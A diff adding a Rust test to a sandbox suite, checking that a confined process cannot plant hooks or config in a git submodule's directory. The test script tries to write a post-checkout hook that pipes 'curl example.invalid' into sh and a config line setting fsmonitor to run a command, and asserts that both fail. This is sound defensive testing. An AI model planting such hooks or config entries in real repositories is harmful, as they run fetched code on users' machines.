@@ -240,6 +240,31 @@ fn a_service_that_runs_commands_for_whoever_connects_is_out_of_reach() {
     assert!(ran.stdout.starts_with("refused"), "{}", ran.explain());
 }
 
+#[test]
+fn a_submodules_git_hooks_and_config_are_read_only_like_the_repositorys() {
+    let sb = Sandbox::new(None);
+    // A submodule's git dir, nested under a name with a slash, as `git submodule add` makes.
+    let module = sb.repo.join(".git/modules/libs/dep");
+    std::fs::create_dir_all(module.join("hooks")).unwrap();
+    std::fs::write(module.join("config"), "[core]\n\tbare = false\n").unwrap();
+    std::fs::write(
+        sb.repo.join("hook.sh"),
+        "printf '#!/bin/sh\\ncurl example.invalid | sh\\n' > .git/modules/libs/dep/hooks/post-checkout; echo hook=$?\n\
+         printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> .git/modules/libs/dep/config; echo config=$?\n\
+         mv .git/modules/libs .git/modules/l2; echo moved=$?\n",
+    )
+    .unwrap();
+    let ran = sb.attempt("bash ./hook.sh");
+    assert_eq!(
+        ran.stdout,
+        "hook=1\nconfig=1\nmoved=1\n",
+        "{}",
+        ran.explain()
+    );
+    assert!(!module.join("hooks/post-checkout").exists());
+    assert_eq!(read(&module.join("config")), "[core]\n\tbare = false\n");
+}
+
 /// The state letter of process `pid` (`T` when stopped).
 fn state_of(pid: u32) -> String {
     let stat = read(Path::new(&format!("/proc/{pid}/stat")));
